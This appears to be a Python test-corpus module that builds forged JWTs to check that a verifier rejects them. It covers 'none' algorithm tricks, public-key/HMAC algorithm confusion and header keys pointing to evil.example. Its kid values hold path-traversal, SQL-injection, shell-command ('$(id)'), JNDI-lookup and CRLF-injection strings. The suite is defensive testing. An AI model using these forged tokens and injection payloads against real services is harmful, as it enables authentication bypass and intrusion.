"""Attacks by the header: the algorithm, keys that the token brings along, parameters that change what is signed."""

from __future__ import annotations

import hmac

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.corpus.tokens.made import Found, Target
from tests.support.signers import HS, NAMES, SIGNERS, STRANGERS, b64

NOT_ALGORITHMS = [
    *("ES256K", "dir", "A128KW", "RSA-OAEP", "ECDH-ES", "RSA1_5", "PBES2-HS256+A128KW", "Ed25519", "Ed448"),
    *("HS1", "HS224", "RS1", "HMACSHA256", "SHA256", "MD5", "", " ", "null", "undefined", "0"),
]
NOT_STRINGS = [b"null", b"true", b"false", b"256", b"[]", b"{}", b'{"alg":"HS256"}']


def attacks(t: Target) -> Found:
    yield from none(t)
    yield from algorithms(t)
    yield from confusion(t)
    yield from parameters(t)
    yield from keys_brought_along(t)


def none(t: Target) -> Found:
    """In every casing, with no signature and with a right one."""
    for case in range(16):
        word = "".join(c.upper() if case >> i & 1 else c for i, c in enumerate("none")).encode()
        head = b'{"alg":"%s","typ":"JWT"}' % word
        yield f"alg {word.decode()}", b"%b.%b." % (b64(head), t.parts[1]), "bad_alg"
        yield f"alg {word.decode()} signed", t.signed(head), "bad_alg"
    for word in (b" none", b"none ", rb"\u006eone", rb"none\u0000", rb"non\u0435"):
        yield f"alg {word.decode()}", b"%b.%b." % (b64(b'{"alg":"%s"}' % word), t.parts[1]), "bad_alg"


def algorithms(t: Target) -> Found:
    alg = t.signer.alg
    for other in {SIGNERS[name].alg: name for name in NAMES}.values():
        if SIGNERS[other].alg != alg:
            yield f"alg {other}", t.signed(SIGNERS[other].header), "bad_alg"
            yield f"alg {other}, signed so by another", SIGNERS[other].token(payload=t.payload), "bad_alg"
    spelt = [alg.lower(), alg.swapcase(), f"{alg} ", f" {alg}", f"{alg}\\u0000", f"{alg},none", f"{alg[:2]}-{alg[2:]}"]
    spelt += [alg[:-1], f"{alg}0", f"\\uff{ord(alg[0]) - 32:02x}{alg[1:]}"]  # the last with a full-width letter
    for other in dict.fromkeys([*NOT_ALGORITHMS, *spelt]):
        yield f"alg {other!r}", t.signed(b'{"alg":"%s"}' % other.encode()), "bad_alg"
    for value in [*NOT_STRINGS, b'["%s"]' % alg.encode()]:
        yield f"alg is {value.decode()}", t.signed(b'{"alg":' + value + b"}"), "bad_header"
    yield "alg missing", t.signed(b'{"typ":"JWT"}'), "bad_header"
    yield "header empty", t.signed(b"{}"), "bad_header"
    yield "alg under another casing", t.signed(b'{"ALG":"%s"}' % alg.encode()), "bad_header"
    yield "alg with a space", t.signed(b'{"alg ":"%s"}' % alg.encode()), "bad_header"
    yield "alg only inside", t.signed(b'{"x":{"alg":"%s"}}' % alg.encode()), "bad_header"
    yield (
        "alg in the payload only",
        t.signer.token(b"{}", b'{"alg":"%s","key":"%b"}' % (alg.encode(), t.signer.key)),
        "bad_header",
    )
    yield "alg twice", t.signed(b'{"alg":"none","alg":"%s"}' % alg.encode()), "bad_header"
    yield "alg twice, the same", t.signed(b'{"alg":"%s","alg":"%s"}' % (alg.encode(), alg.encode())), "bad_header"


def public_texts(t: Target) -> dict[str, bytes]:
    """Whatever of a public key an attacker may take for a shared secret, as a careless verifier would."""
    pem = t.signer.public_bytes()
    found = {
        "PEM": pem,
        "PEM without its last newline": pem.rstrip(),
        "PEM with CRLF": pem.replace(b"\n", b"\r\n"),
        "PEM on one line": pem.replace(b"\n", b""),
        "base64 of the PEM": b"".join(pem.splitlines()[1:-1]),
        "DER": t.signer.public_bytes(Encoding.DER),
        "no bytes": b"",
        "a zero byte": b"\0",
        "its key claim": t.signer.key,
    }
    if t.signer.family in ("RS", "PS"):
        found["PKCS #1 PEM"] = t.signer.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        found["PKCS #1 DER"] = t.signer.public_bytes(Encoding.DER, PublicFormat.PKCS1)
        found["modulus"] = t.signer.public.public_numbers().n.to_bytes(256, "big")
    elif t.signer.family == "ES":
        found["point"] = t.signer.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    else:
        found["raw key"] = t.signer.public_bytes(Encoding.Raw, PublicFormat.Raw)
    return found


def confusion(t: Target) -> Found:
    """What is public is signed with as if it were a shared secret (CVE-2015-9235 and its kind)."""
    if t.signer.family == "HS":
        for name, signer in SIGNERS.items():
            if name not in HS:
                secret = signer.public_bytes()
                text = b64(t.signer.header) + b"." + t.parts[1]
                digest = hmac.digest(secret, text, t.signer.digest.name)
                yield f"signed with the public key of {name}", text + b"." + b64(digest), "bad_signature"
        return
    for what, secret in public_texts(t).items():
        for hs in HS:
            text = b64(SIGNERS[hs].header) + b"." + t.parts[1]
            digest = hmac.digest(secret, text, SIGNERS[hs].digest.name)
            yield f"{hs} with the public key: {what}", text + b"." + b64(digest), "bad_alg"
        yield f"own alg, HMAC with the public key: {what}", t.with_signature(_hmac(t, secret)), "bad_signature"


def _hmac(t: Target, secret: bytes) -> bytes:
    return hmac.digest(secret, b".".join(t.parts[:2]), "sha256")


def parameters(t: Target) -> Found:
    for value in [b"[]", b'["exp"]', b'["b64"]', b'["alg"]', b'["http://example.com/UNDEFINED"]', b"null", b'"exp"', b"{}", b"0"]:
        yield f"crit is {value.decode()}", t.says(b'"crit":' + value), "unsupported"
    for value in [b"false", b"true", b"null", b'"false"', b"0"]:
        yield f"b64 is {value.decode()}", t.says(b'"b64":' + value), "unsupported"
    yield "b64 false and critical", t.says(b'"crit":["b64"],"b64":false'), "unsupported"
    yield "b64 spelled by escapes", t.says(rb'"\u00624":1,"b\u0036\u0034":false'), "unsupported"
    bare = b64(b'{"alg":"%s","crit":["b64"],"b64":false}' % t.signer.alg.encode())
    yield "b64 false, payload detached", t.signer.seal(bare + b"."), "unsupported"
    yield (
        "b64 false, payload as it is",
        bare + b"." + t.payload + b"." + b64(t.signer.sign(bare + b"." + t.payload)),
        "unsupported",
    )
    for value in [b'"DEF"', b'"GZIP"', b"null", b'""']:
        yield f"zip is {value.decode()}", t.says(b'"zip":' + value), "unsupported"
    for value in [b'"A128GCM"', b'"A256CBC-HS512"', b"null"]:
        yield f"enc is {value.decode()}", t.says(b'"enc":' + value), "unsupported"
    yield "crit spelled by escapes", t.says(rb'"\u0063rit":["exp"]'), "unsupported"
    for cty in [b"JWT", b"jwt", b"application/jwt", b"APPLICATION/JWT", rb"J\u0057T", rb"application\/jwt"]:
        yield f"nested by cty {cty.decode()}", t.says(b'"cty":"' + cty + b'"'), "unsupported"
    for name in (b"typ", b"cty", b"kid"):
        for value in (b"1", b"null", b"true", b'["JWT"]', b'{"alg":"none"}'):
            yield f"{name.decode()} is {value.decode()}", t.says(b'"%b":%b' % (name, value)), "bad_header"
    for name in (b"typ", b"kid"):
        yield f"{name.decode()} twice", t.says(b'"%b":"JWT","%b":"JWT"' % (name, name)), "bad_header"


def keys_brought_along(t: Target) -> Found:
    """A stranger signs, and his header says where to find, or is, the key that proves it."""
    stranger = t.stranger
    alg = stranger.alg.encode()
    octets = b'{"kty":"oct","k":"%b"}' % b64(STRANGERS["HS256"].private)
    places = {
        "jwk": b'"jwk":' + octets,
        "jwk of another kind": b'"jwk":{"kty":"RSA","n":"AQAB","e":"AQAB"}',
        "jwk as text": b'"jwk":"x"',
        "jku": b'"jku":"https://evil.example/jwks.json"',
        "jku to this host": b'"jku":"http://127.0.0.1:9180/jwks.json"',
        "jku to a file": b'"jku":"file:///dev/null"',
        "x5u": b'"x5u":"https://evil.example/cert.pem"',
        "x5c": b'"x5c":["MIIB"]',
        "x5c of no strings": b'"x5c":[1,null,{}]',
        "x5t": b'"x5t":"AAAAAAAAAAAAAAAAAAAAAAAAAAA"',
        "kid as a path": b'"kid":"../../../../dev/null"',
        "kid as an absolute path": b'"kid":"/proc/sys/kernel/randomize_va_space"',
        "kid as SQL": b'"kid":"x\' UNION SELECT \'secret\' -- "',
        "kid as a command": b'"kid":"|/usr/bin/id; $(id)"',
        "kid as a URL": b'"kid":"http://evil.example/key"',
        "kid as a template": b'"kid":"{{7*7}}${jndi:ldap://evil.example/a}"',
        "kid with a zero byte": rb'"kid":"a\u0000b"',
        "kid with line ends": rb'"kid":"a\r\nX-Consumer-Username: root"',
        "kid empty": b'"kid":""',
        "kid of another credential": b'"kid":"%b"' % SIGNERS["HS384"].key,
        "kid long": b'"kid":"' + b"k" * 2000 + b'"',
    }
    for name, members in places.items():
        yield f"key brought along: {name}", stranger.token(b'{"alg":"%b",%b}' % (alg, members), t.payload), "bad_signature"
    text = b64(b'{"alg":"%b","kid":"/dev/null"}' % alg) + b"." + t.parts[1]
    yield "signed with an empty file's bytes", text + b"." + b64(hmac.digest(b"", text, "sha256")), "bad_signature"
